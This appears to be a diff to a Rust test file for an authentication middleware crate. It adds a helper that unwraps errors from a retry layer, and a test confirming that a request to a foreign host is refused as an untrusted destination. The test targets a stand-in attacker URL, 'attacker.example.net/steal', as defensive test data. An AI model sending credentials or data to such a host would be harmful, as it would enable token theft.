@@ -12,7 +12,7 @@ use std::time::Duration;
 
 use eshopbox_auth::mock::MockEshopbox;
 use eshopbox_auth::reqwest::ReqwestService;
-use eshopbox_auth::{ErrorKind, EshopboxAuthLayer};
+use eshopbox_auth::{Error, ErrorKind, EshopboxAuthLayer};
 use http::StatusCode;
 use reqwest_middleware::{ClientBuilder, ClientWithMiddleware};
 use reqwest_retry::policies::ExponentialBackoff;
@@ -127,6 +127,43 @@ async fn a_foreign_host_is_refused_before_the_request_leaves() {
     assert_eq!(foreign.posts(), 0, "a refused request was sent");
     assert_eq!(endpoint.posts(), 0, "refusing needed a token call");
     assert_eq!(layer.handle().stats().refused, 2);
+}
+
+/// The README's way to find this crate's error behind `reqwest-retry`.
+fn eshopbox_error(error: &reqwest_middleware::Error) -> Option<&Error> {
+    let reqwest_middleware::Error::Middleware(e) = error else {
+        return None;
+    };
+    if let Some(found) = e.downcast_ref::<Error>() {
+        return Some(found);
+    }
+    match e.downcast_ref::<reqwest_retry::RetryError>()? {
+        reqwest_retry::RetryError::Error(inner)
+        | reqwest_retry::RetryError::WithRetries { err: inner, .. } => eshopbox_error(inner),
+    }
+}
+
+#[tokio::test]
+async fn behind_reqwest_retry_the_error_is_found_as_the_readme_shows() {
+    let endpoint = TokenServer::counting(3600).await;
+    let layer = EshopboxAuthLayer::builder(credentials())
+        .token_url(&endpoint.url())
+        .build()
+        .unwrap();
+    let client = ClientBuilder::new(reqwest::Client::new())
+        .with(retry(3))
+        .with(layer.middleware())
+        .build();
+    let err = bounded(client.get("https://attacker.example.net/steal").send())
+        .await
+        .unwrap_err();
+    // The plain downcast does not see through `RetryError`.
+    assert_eq!(kind_of(&err), None, "{err}");
+    assert_eq!(
+        eshopbox_error(&err).map(Error::kind),
+        Some(ErrorKind::UntrustedDestination),
+        "{err}"
+    );
 }
 
 /// A token endpoint handing out `tok-1`, `tok-2`, … and an API answering `api(n)`.
